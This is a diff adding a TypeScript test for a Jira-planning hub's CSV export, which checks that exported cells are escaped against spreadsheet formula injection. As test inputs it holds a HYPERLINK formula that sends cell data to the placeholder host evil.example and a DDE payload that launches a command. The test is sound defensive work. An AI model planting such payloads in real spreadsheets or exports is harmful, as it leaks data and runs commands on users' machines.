@@ -514,6 +514,35 @@ describe('planning packages (SPEC 18)', () => {
     expect(await keysOf('project = "A%"')).toEqual([]);
   });
 
+  it('export writes no cell a spreadsheet would run as a formula, and the exported package still reads back as the mirror: an empty plan (decision 1500)', async () => {
+    // Anyone who edits an issue in Jira sets its summary; an assistant writes notes.
+    const formula = '=HYPERLINK("https://evil.example/?d="&C3;"Открыть")';
+    const planted = [
+      { key: 'A-4', summary: formula, labels: ['+1', '@team'], status: 'To Do' },
+      { key: 'A-5', summary: "'=1+1 — так пишут формулу", status: 'To Do' },
+      { key: 'A-6', summary: '-5% бюджета', status: 'To Do' },
+    ];
+    await hub.http.post('/batches').send({ title: 'r', commands: [{ type: 'refresh', params: { keys: planted.map((i) => i.key) } }] }).expect(201);
+    await agent.done((await agent.claim()).command.id, refreshResult(planted));
+    await hub.http.put('/notes/A-4').send({ fact_status: '@всем', comment: '=cmd|\' /C calc\'!A0' }).expect(200);
+    const out = await hub.app.get(ExportService).export('key in (A-4, A-5, A-6)');
+    const rows = out.files['issues.csv'].split('\r\n').slice(1, 4);
+    expect(rows.map((line) => line.split(';').slice(0, 6))).toEqual([
+      ['A-4', 'Task', '"\'=HYPERLINK(""https://evil.example/?d=""&C3', '""Открыть"")"', '', ''],
+      ['A-5', 'Task', "''=1+1 — так пишут формулу", '', '', ''],
+      ['A-6', 'Task', "'-5% бюджета", '', '', ''],
+    ]);
+    expect(rows[0].split(';')[6]).toBe("'+1 @team");
+    expect(out.files['notes.csv'].split('\r\n')[1]).toBe("A-4;'@всем;'=cmd|' /C calc'!A0");
+    // Every cell a spreadsheet sees starts with neither =, +, -, @ nor a tab.
+    for (const file of Object.values(out.files)) for (const cell of file.split(/[;\r\n]+/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t]/);
+    const files = { issues: out.files['issues.csv'], links: out.files['links.csv'], notes: out.files['notes.csv'] };
+    expect((await send('plan', files).expect(200)).body).toMatchObject({ empty: true, commands: [] });
+    const applied = (await send('apply', files).expect(200)).body;
+    expect(applied).toMatchObject({ batch: null });
+    expect((await hub.http.get('/notes/A-4').expect(200)).body).toMatchObject({ fact_status: '@всем', comment: '=cmd|\' /C calc\'!A0' });
+  });
+
   it('drift of a package whose batch has not run says so instead of «Jira отошла»: waiting for approval, then rejected', async () => {
     const issues = `${HEADER}\nA-2;;;;2026-12-24;;;;;;`;
     const applied = (await send('apply', { issues }, {}, { 'X-Hub-Source': 'assistant' }).expect(200)).body;
